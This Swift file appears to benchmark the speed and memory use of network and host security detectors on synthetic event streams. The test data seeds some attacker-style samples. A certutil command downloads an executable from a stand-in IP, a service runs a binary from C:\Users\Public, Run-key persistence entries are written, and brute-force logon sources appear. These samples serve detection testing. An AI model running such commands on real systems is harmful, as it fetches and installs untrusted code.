#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
import Detectors
import Triage
import VigilCore

/// Throughput and memory of the network and infrastructure detectors on one core: beaconing, lateral movement,
/// log-source health, privileged command sequences, the whole suite through `Replay`, the Zeek parser and the
/// forecaster; resident memory per tracked pair, host, source and session measured from /proc/self/statm next
/// to the estimate from the data structure sizes.
public enum DetectorsBenchmarks {
    /// - Parameter scale: 1.0 pushes 1,000,000 events through each detector (best of 3) and tracks 100,000 pairs and
    ///   hosts for the memory figures.
    public static func run(scale: Double) -> [BenchmarkResult] {
        let n = max(10_000, Int(1_000_000 * scale))
        // Memory first, in a process that has not yet grown its heap, so resident-memory deltas are not hidden by
        // freed memory being reused.
        var results = memoryBenchmarks(scale: scale)
        let base: Int64 = 1_767_225_600_000

        func throughput(_ name: String, pool: [Event], step: Int64, detail: String, make: () -> any Detector) {
            var signals = 0
            let seconds = bestOf(3) {
                var d = make()
                var t = base
                for i in 0..<n {
                    var e = pool[i & (pool.count - 1)]
                    e.time = t
                    t += step
                    signals += d.process(e).count
                }
                blackHole(d)
            }
            results.append(BenchmarkResult(name: "\(name), one core", value: Double(n) / seconds, unit: "events/s",
                                           detail: "\(n) events, \(detail), best of 3"))
            blackHole(signals)
        }

        throughput("Beaconing detector", pool: proxyPool(), step: 2, detail: "proxy and flow records, 10,000 clients, 20,000 destinations") {
            BeaconDetector()
        }
        throughput("Lateral-movement detector", pool: lateralPool(), step: 5, detail: "logons, admin-port flows, 4648s; 5,000 workstations, 40 servers") {
            LateralMovementDetector()
        }
        throughput("Log-source health detector", pool: healthPool(), step: 2, detail: "2,000 log sources, 2 % malformed, receive times") {
            LogSourceHealthDetector()
        }
        throughput("Privileged-sequence detector", pool: processPool(), step: 50, detail: "command lines of 2,000 users, tokenised") {
            PrivilegedSequenceDetector()
        }
        throughput("Credential-attack detector", pool: authPool(), step: 20, detail: "logons from 20,000 sources, 30 % failed, 200 brute-forcing") {
            CredentialAttackDetector()
        }
        throughput("Host-behaviour detector", pool: windowsPool(), step: 20, detail: "Windows process, service, task, registry and share events of 5,000 hosts") {
            HostBehaviourDetector()
        }
        throughput("All default detectors (Replay order)", pool: mixedPool(), step: 2, detail: "mixed stream") {
            SuiteDetector()
        }

        results += parserBenchmarks(scale: scale)
        results += forecastBenchmarks()
        return results
    }

    /// Logons: most sources succeed now and then; 200 sources fail all the time against root or against many names.
    static func authPool() -> [Event] {
        var random = SeededRandom(seed: 7)
        return (0..<65_536).map { i in
            let attacker = i % 50 == 0
            let source = attacker ? "203.0.113.\(i % 200)" : "10.\(i % 20 / 256 % 256).\(Int(random.nextUnit() * 20_000) % 256).\(i % 250)"
            let failed = attacker || random.nextUnit() < 0.3
            let user = attacker && i % 100 == 0 ? "user\(Int(random.nextUnit() * 5_000))" : attacker ? "root" : "user\(Int(random.nextUnit() * 5_000))"
            return Event(id: "a\(i)", time: 0, kind: .authentication, user: user, sourceIP: source, outcome: failed ? .failure : .success)
        }
    }

    /// Windows events of the kinds the host-behaviour catalog reads, most of them ordinary.
    static func windowsPool() -> [Event] {
        var random = SeededRandom(seed: 9)
        let commands = ["C:\\Windows\\System32\\svchost.exe -k netsvcs", "\"C:\\Program Files\\Office\\WINWORD.EXE\" /n report.docx",
                        "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", "certutil -urlcache -split -f http://198.51.100.7/x.exe x.exe",
                        "cmd.exe /c dir C:\\Users", "schtasks /create /tn backup /tr C:\\tools\\b.exe /sc daily"]
        return (0..<65_536).map { i in
            let host = "WS-\(Int(random.nextUnit() * 5_000))"
            switch i % 8 {
            case 0:
                var e = Event(id: "w\(i)", time: 0, kind: .other, eventCode: "7045", user: "LocalSystem", device: host)
                e.properties = ["Service Name": "svc\(i % 40)", "Service File Name": i % 97 == 0 ? "cmd.exe /c C:\\Users\\Public\\a.exe" : "C:\\Program Files\\Vendor\\agent\(i % 40).exe"]
                return e
            case 1:
                var e = Event(id: "w\(i)", time: 0, kind: .other, name: "Sysmon: RegistryEvent (Value Set)", eventCode: "13", device: host)
                e.properties = ["Registry Key": i % 3 == 0 ? "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\agent" : "HKLM\\Software\\Vendor\\Setting\(i % 50)",
                                "Process Path": "C:\\Program Files\\Vendor\\agent.exe"]
                return e
            case 2:
                var e = Event(id: "w\(i)", time: 0, kind: .shareAccess, eventCode: "5145", user: "user\(i % 3_000)", device: "FILESRV\(i % 20)")
                e.properties = ["Share Name": i % 5 == 0 ? "\\\\*\\IPC$" : "\\\\*\\Projects", "Relative Target Name": i % 5 == 0 ? "srvsvc" : "plan\(i % 100).xlsx"]
                return e
            default:
                var e = Event(id: "w\(i)", time: 0, kind: .process, eventCode: "4688", user: "user\(i % 3_000)", device: host,
                              command: commands[Int(random.nextUnit() * Double(commands.count)) % commands.count])
                e.properties = ["Parent Process Path": "C:\\Windows\\explorer.exe", "Process Path": "C:\\Windows\\System32\\cmd.exe"]
                return e
            }
        }
    }

    /// The default detectors as one, to time the suite.
    struct SuiteDetector: Detector {
        let id = "suite"
        var detectors: [any Detector] = DetectionEngine.defaultDetectors()
        mutating func process(_ event: Event) -> [Signal] {
            var out: [Signal] = []
            for i in detectors.indices { out += detectors[i].process(event) }
            return out
        }
    }

    // MARK: - Workloads

    static func proxyPool() -> [Event] {
        var random = SeededRandom(seed: 1)
        return (0..<65_536).map { i in
            let client = Int(random.nextUnit() * 10_000)
            // Popularity falls off like a power law, as web destinations do.
            let destination = Int(pow(random.nextUnit(), 3) * 20_000)
            if i % 2 == 0 {
                return Event(id: "p\(i)", time: 0, kind: .webProxy, user: "u\(client)", sourceIP: "10.1.\(client / 250).\(client % 250)",
                             sourceHost: "WS-\(client)", destinationIP: "198.51.\(destination / 250 % 250).\(destination % 250)",
                             destinationHost: "site\(destination).example", destinationPort: 443, resource: "site\(destination).example",
                             bytesIn: 4_000 + Int64(random.nextUnit() * 40_000), bytesOut: 600 + Int64(random.nextUnit() * 900),
                             logSource: "Squid @ PROXY01")
            }
            return Event(id: "f\(i)", time: 0, kind: .networkFlow, sourceIP: "10.1.\(client / 250).\(client % 250)",
                         destinationIP: "203.0.\(destination / 250 % 250).\(destination % 250)", sourcePort: 50_000 + i % 10_000,
                         destinationPort: 443, networkProtocol: "TCP", bytesIn: 3_000, bytesOut: 700, logSource: "QFlow @ QFLOW01")
        }
    }

    static func lateralPool() -> [Event] {
        var random = SeededRandom(seed: 2)
        return (0..<65_536).map { i in
            let ws = Int(random.nextUnit() * 5_000)
            let server = Int(random.nextUnit() * random.nextUnit() * 40)
            let src = "WS-\(ws)", srcIP = "10.1.\(ws / 250).\(ws % 250)", dst = "SRV-\(server)", dstIP = "10.0.0.\(server + 10)"
            switch i % 4 {
            case 0, 1:
                return Event(id: "l\(i)", time: 0, kind: .authentication, eventCode: "4624", user: "user\(ws)", sourceIP: srcIP, sourceHost: src,
                             destinationIP: dstIP, destinationHost: dst, outcome: .success, logSource: "WindowsAuthServer @ \(dst)",
                             logonType: 3, authPackage: i % 97 == 0 ? "NTLM" : "Kerberos")
            case 2:
                return Event(id: "n\(i)", time: 0, kind: .networkFlow, user: nil, sourceIP: srcIP, sourceHost: src, destinationIP: dstIP,
                             destinationHost: dst, destinationPort: 445, networkProtocol: "TCP", application: "SMB", bytesIn: 30_000,
                             bytesOut: 4_000, logSource: "QFlow @ QFLOW01")
            default:
                return Event(id: "x\(i)", time: 0, kind: .explicitCredentials, user: "user\(ws)", sourceIP: srcIP, sourceHost: src,
                             destinationHost: dst, logSource: "WindowsAuthServer @ \(src)", properties: ["Target Account": "user\(ws)"])
            }
        }
    }

    static func healthPool() -> [Event] {
        var random = SeededRandom(seed: 3)
        return (0..<65_536).map { i in
            let source = Int(pow(random.nextUnit(), 2) * 2_000)
            let name = "WindowsAuthServer @ SRV-\(source)"
            if i % 50 == 0 {
                return Event(id: "m\(i)", time: 0, kind: .other, eventCode: "UNPARSED", outcome: .unknown, logSource: name,
                             properties: ["parseStatus": "malformed", "Payload": "<134>1 garbage"])
            }
            return Event(id: "h\(i)", time: 0, kind: .authentication, name: "Logon", eventCode: ["4624", "4625", "4634", "4672"][i % 4],
                         user: "u\(i % 500)", sourceIP: "10.1.0.\(i % 250)", destinationHost: "SRV-\(source)", logSource: name,
                         logonType: 3, properties: ["receivedAt": "0"])
        }
    }

    static let commands = [
        #"cmd.exe /c net group "Domain Admins" /domain"#, "powershell.exe Get-Service | Where-Object {$_.Status -ne 'Running'}",
        "cmd.exe /c whoami /all", "ipconfig /all", "powershell.exe Restart-Service -Name Spooler -Force", "cmd.exe /c query user",
        #""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\a\Documents\Report.docx""#,
        "sudo systemctl restart nginx", "tail -n 200 /var/log/syslog", "powershell.exe Get-EventLog -LogName System -Newest 50",
    ]

    static func processPool() -> [Event] {
        var random = SeededRandom(seed: 4)
        return (0..<65_536).map { i in
            let user = Int(random.nextUnit() * 2_000)
            return Event(id: "c\(i)", time: 0, kind: .process, user: user % 10 == 0 ? "adm-u\(user)" : "u\(user)", sourceHost: "HOST-\(user % 300)",
                         logSource: "WindowsAuthServer @ HOST-\(user % 300)", command: commands[Int(random.nextUnit() * Double(commands.count))])
        }
    }

    static func mixedPool() -> [Event] {
        let a = proxyPool(), b = lateralPool(), c = healthPool(), d = processPool()
        return (0..<65_536).map { i in
            switch i % 8 {
            case 0, 1, 2: return a[i]
            case 3, 4: return b[i]
            case 5, 6: return c[i]
            default: return d[i]
            }
        }
    }

    // MARK: - Parser and forecaster

    static func parserBenchmarks(scale: Double) -> [BenchmarkResult] {
        let lines = max(10_000, Int(500_000 * scale))
        let header = "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents"
        let tsv = (0..<1024).map { i in
            "1709294400.\(100_000 + i)\tC\(i)AvVGS1DHFjwGM9\t10.1.\(i / 250).\(i % 250)\t\(49_152 + i)\t93.184.216.\(i % 250)\t443\ttcp\tssl\t0.512301\t517\t4096\tSF\tT\tF\t0\tShADadFf\t8\t849\t7\t4480\t-"
        }
        let json = (0..<1024).map { i in
            #"{"ts":1709294400.\#(100_000 + i),"uid":"C\#(i)AvVGS1DHFjwGM9","id.orig_h":"10.1.\#(i / 250).\#(i % 250)","id.orig_p":\#(49_152 + i),"id.resp_h":"93.184.216.\#(i % 250)","id.resp_p":443,"proto":"tcp","service":"ssl","duration":0.512301,"orig_bytes":517,"resp_bytes":4096,"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":8,"orig_ip_bytes":849,"resp_pkts":7,"resp_ip_bytes":4480}"#
        }
        var out: [BenchmarkResult] = []
        for (name, sample) in [("Zeek conn.log TSV parse", tsv), ("Zeek conn.log JSON parse", json)] {
            var parsed = 0
            let seconds = bestOf(3) {
                var p = ZeekConnLogParser()
                _ = p.parse(text: header)
                for i in 0..<lines { if p.parse(line: sample[i & 1023], lineNumber: i + 3) != nil { parsed += 1 } }
            }
            out.append(BenchmarkResult(name: "\(name), one core", value: Double(lines) / seconds, unit: "lines/s",
                                       detail: "\(lines) lines of ~\(sample[0].utf8.count) bytes, best of 3"))
            blackHole(parsed)
        }
        return out
    }

    static func forecastBenchmarks() -> [BenchmarkResult] {
        let series = SyntheticVolumes.generate(seed: 42)
        var fitted = 0
        let seconds = bestOf(3) {
            for s in series {
                if let m = try? Forecaster.fit(Array(s.values.prefix(ForecastCrossCheck.trainHours))) { fitted += m.count }
            }
        }
        blackHole(fitted)
        return [BenchmarkResult(name: "Forecaster fit (double-seasonal Holt-Winters, auto transform)", value: seconds * 1000 / Double(series.count),
                                unit: "ms/series", detail: "\(ForecastCrossCheck.trainHours) hourly points, \(series.count) series, best of 3")]
    }

    // MARK: - Memory

    /// Resident memory of this process in bytes.
    static func residentBytes() -> Int {
        guard let f = fopen("/proc/self/statm", "r") else { return 0 }
        defer { fclose(f) }
        var size = 0, resident = 0
        guard withUnsafeMutablePointer(to: &size, { s in withUnsafeMutablePointer(to: &resident) { r in fscanfPair(f, s, r) } }) else { return 0 }
        return resident * Int(sysconf(Int32(_SC_PAGESIZE)))
    }

    private static func fscanfPair(_ f: UnsafeMutablePointer<FILE>, _ a: UnsafeMutablePointer<Int>, _ b: UnsafeMutablePointer<Int>) -> Bool {
        var buffer = [CChar](repeating: 0, count: 256)
        guard fgets(&buffer, 256, f) != nil else { return false }
        let text = String(decoding: buffer.prefix { $0 != 0 }.map { UInt8(bitPattern: $0) }, as: UTF8.self)
        let parts = text.split(separator: " ")
        guard parts.count >= 2, let x = Int(parts[0]), let y = Int(parts[1]) else { return false }
        a.pointee = x
        b.pointee = y
        return true
    }

    /// Each detector stays alive until all are measured, so no measurement reuses another's freed memory.
    static func memoryBenchmarks(scale: Double) -> [BenchmarkResult] {
        var out: [BenchmarkResult] = []
        var alive: [any Detector] = []
        defer { blackHole(alive.count) }
        let base: Int64 = 1_767_225_600_000
        let pairs = max(1_000, Int(100_000 * scale))

        // Beaconing: every pair with full rings (65 callbacks 5 minutes apart).
        do {
            var config = BeaconConfiguration()
            config.maximumPairs = pairs * 2
            config.maximumDestinations = pairs * 2
            let before = residentBytes()
            var d = BeaconDetector(configuration: config)
            for k in 0..<(config.historySize + 1) {
                for p in 0..<pairs {
                    let e = Event(id: "b\(k)-\(p)", time: base + Int64(k) * 300_000 + Int64(p), kind: .networkFlow,
                                  sourceIP: "10.\(p / 65_536).\(p / 256 % 256).\(p % 256)",
                                  destinationIP: "203.\(p / 65_536).\(p / 256 % 256).\(p % 256)", destinationPort: 443, bytesOut: 400)
                    blackHole(d.process(e))
                }
            }
            let after = residentBytes()
            out.append(BenchmarkResult(name: "Beaconing memory per tracked pair (measured RSS)", value: Double(after - before) / Double(pairs),
                                       unit: "bytes/pair", detail: "\(d.trackedPairs) pairs with full rings, incl. each destination's prevalence counter"))
            out.append(BenchmarkResult(name: "Beaconing memory per tracked pair (estimate)", value: Double(BeaconDetector.estimatedBytesPerPair(configuration: config)),
                                       unit: "bytes/pair", detail: "from MemoryLayout and ring sizes; history \(config.historySize)"))
            alive.append(d)
        }

        // Lateral movement: hosts with 8 remembered destinations each.
        do {
            var config = LateralMovementConfiguration()
            config.maximumHosts = pairs * 2
            config.learningPeriod = Int64.max / 4
            let before = residentBytes()
            var d = LateralMovementDetector(configuration: config)
            for k in 0..<8 {
                for h in 0..<pairs {
                    let e = Event(id: "l\(k)-\(h)", time: base + Int64(k) * 60_000 + Int64(h), kind: .authentication, user: "user\(h)",
                                  sourceIP: "10.\(h / 65_536).\(h / 256 % 256).\(h % 256)", sourceHost: "WS-\(h)",
                                  destinationHost: "SRV-\((h + k * 7) % 64)", outcome: .success, logonType: 3, authPackage: "Kerberos")
                    blackHole(d.process(e))
                }
            }
            let after = residentBytes()
            out.append(BenchmarkResult(name: "Lateral-movement memory per tracked host (measured RSS)", value: Double(after - before) / Double(d.trackedHosts),
                                       unit: "bytes/host", detail: "\(d.trackedHosts) hosts, 8 edges each, incl. address→name map"))
            out.append(BenchmarkResult(name: "Lateral-movement memory per tracked host (estimate)", value: Double(LateralMovementDetector.estimatedBytesPerHost(edges: 8, accounts: 1, inbound: 0, recent: 8)),
                                       unit: "bytes/host", detail: "from MemoryLayout; a workstation with 8 edges, 1 account, 8 recent destinations"))
            alive.append(d)
        }

        // Log sources: each with a few days of hourly history and 16 event codes.
        do {
            let sources = max(200, Int(10_000 * scale))
            let before = residentBytes()
            var d = LogSourceHealthDetector()
            for k in 0..<72 {
                for s in 0..<sources {
                    let e = Event(id: "s\(k)-\(s)", time: base + Int64(k) * 3_600_000 + Int64(s), kind: .authentication, eventCode: "E\(k % 16)",
                                  user: "u", logSource: "WindowsAuthServer @ SRV-\(s)", properties: ["receivedAt": String(base + Int64(k) * 3_600_000)])
                    blackHole(d.process(e))
                }
            }
            let after = residentBytes()
            out.append(BenchmarkResult(name: "Log-source health memory per source (measured RSS)", value: Double(after - before) / Double(sources),
                                       unit: "bytes/source", detail: "\(d.trackedSources) sources, 72 h of history, 16 event codes"))
            out.append(BenchmarkResult(name: "Log-source health memory per source (estimate)", value: Double(LogSourceHealthDetector.estimatedBytesPerSource(codes: 16)),
                                       unit: "bytes/source", detail: "from MemoryLayout and array sizes"))
            alive.append(d)
        }

        // Open command sessions of ten commands each.
        do {
            let users = max(500, Int(50_000 * scale))
            let before = residentBytes()
            var d = PrivilegedSequenceDetector()
            for k in 0..<10 {
                for u in 0..<users {
                    let e = Event(id: "c\(k)-\(u)", time: base + Int64(k) * 60_000 + Int64(u % 1000), kind: .process, user: "adm-\(u)",
                                  sourceHost: "SRV-\(u % 64)", command: commands[(u + k) % commands.count])
                    blackHole(d.process(e))
                }
            }
            let after = residentBytes()
            out.append(BenchmarkResult(name: "Privileged-sequence memory per open session (measured RSS)", value: Double(after - before) / Double(max(1, d.openSessions)),
                                       unit: "bytes/session", detail: "\(d.openSessions) sessions of 10 commands (tokens, ids, command lines)"))
            alive.append(d)
        }
        return out
    }
}
